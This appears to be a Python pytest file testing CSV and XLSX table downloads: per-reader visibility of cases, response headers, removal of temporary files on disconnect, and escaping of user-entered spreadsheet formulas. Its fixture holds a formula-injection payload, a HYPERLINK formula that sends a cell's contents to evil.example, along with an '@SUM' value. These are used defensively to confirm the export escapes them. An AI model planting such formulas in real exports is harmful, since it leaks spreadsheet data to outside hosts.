"""Tables to take along: for whom the cases are, without a formula, and gone from disk however reading them ends."""

import asyncio
import io
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import asyncpg
import httpx
import pytest
from starlette.types import Message

from paidan_cockpit.pages.downloads import download
from paidan_contracts.places import Place
from tests.cockpit.cockpit_edge import signed_in
from tests.cockpit.database_fixture import apply_records
from tests.scoring import case_histories
from tests.scoring.case_histories import assign
from tests.scoring.database_fixture import pack_bytes, pack_version

FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1)'
PIECES: Final = 5 * 65_536


@pytest.fixture(scope="module")
async def case_id(pool: "asyncpg.Pool[Any]") -> str:
    """Store a case of district 1 that streets has, in which a stranger wrote formulas."""
    place = Place(district="1", address="@SUM(1)")
    new = case_histories.new_case(1, pack=pack_version(pack_bytes()), text=FORMULA, place=place)
    states = list(case_histories.history(new, [assign("streets")]))
    await apply_records(pool, [case_histories.case_record(state, offset=at) for at, state in enumerate(states)])
    return new.case_id


def texts_of(name: str, content: bytes) -> str:
    """Return everything that a downloaded table says."""
    if name.endswith(".csv"):
        return content.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return "".join(parts.read(each).decode() for each in parts.namelist() if each.endswith(".xml"))


@pytest.mark.parametrize("name", ["queues.csv", "queues.xlsx"])
async def test_a_table_holds_the_cases_that_its_reader_may_see(
    name: str, site: httpx.ASGITransport, pool: "asyncpg.Pool[Any]", case_id: str
) -> None:
    readers = {"role:operator": 1, "department:streets": 1, "department:lamps": 0}
    for scope, found in readers.items():
        async with signed_in(site, pool, scope) as browser:
            answer = await browser.get(f"/{name}?queue=open")

        assert texts_of(name, answer.content).count(f">{case_id}<" if name.endswith("x") else case_id) == found
        assert answer.headers["content-length"] == str(len(answer.content))
        assert answer.headers["content-disposition"] == f'attachment; filename="tiny-open{name[6:]}"'
        assert answer.headers["cache-control"] == "no-store"
    for bounds, found in {"place:2": 0, "class:C*": 0, "place:1": 1}.items():
        async with signed_in(site, pool, "role:operator", bounds) as browser:
            assert (case_id in texts_of(name, (await browser.get(f"/{name}")).content)) == bool(found)


@pytest.mark.parametrize("name", ["queues.csv", "queues.xlsx"])
async def test_what_a_stranger_wrote_is_no_formula(
    name: str, site: httpx.ASGITransport, pool: "asyncpg.Pool[Any]", case_id: str
) -> None:
    async with signed_in(site, pool, "role:operator") as browser:
        text = texts_of(name, (await browser.get(f"/{name}")).content)

    if name.endswith(".csv"):
        assert ",'@SUM(1)," in text
        assert ",\"'=HYPERLINK(" in text
    else:
        assert "<f>" not in text
        assert "HYPERLINK(" in text


def open_files() -> set[str]:
    """Return the files without a name that this process has open."""
    found = set()
    for each in Path("/proc/self/fd").iterdir():
        with suppress(OSError):  # that of the listing itself
            found.add(str(each.readlink()))
    return {each for each in found if each.endswith("(deleted)")}


@pytest.mark.parametrize("read", [0, 1, 3, 5])
async def test_a_reader_who_goes_away_leaves_nothing_on_disk(read: int) -> None:
    before, gone, sent = open_files(), asyncio.Event(), 0
    response = await download(bytes(PIECES), {}, "text/csv")
    assert open_files() > before

    async def send(message: Message) -> None:
        nonlocal sent
        if message["type"] == "http.response.body" and message["body"]:
            if sent == read:
                gone.set()
                await asyncio.Event().wait()  # as a connection does whose peer reads no further
            sent += 1

    async def receive() -> Message:
        await gone.wait()
        return {"type": "http.disconnect"}

    scope = {"type": "http", "asgi": {"spec_version": "2.3"}, "method": "GET", "headers": []}
    await response(scope, receive, send)

    assert open_files() == before
    assert sent == read


async def test_a_response_that_is_cancelled_before_its_first_piece_leaves_nothing_on_disk() -> None:
    before = open_files()
    response = await download(bytes(PIECES), {}, "text/csv")

    async def send(_message: Message) -> None:
        raise OSError

    async def receive() -> Message:
        return await asyncio.Future()

    with pytest.raises(BaseException):  # noqa: B017, PT011 - whichever the framework makes of it
        await response({"type": "http", "asgi": {"spec_version": "2.3"}, "method": "GET"}, receive, send)

    assert open_files() == before
    assert response.status_code == 200
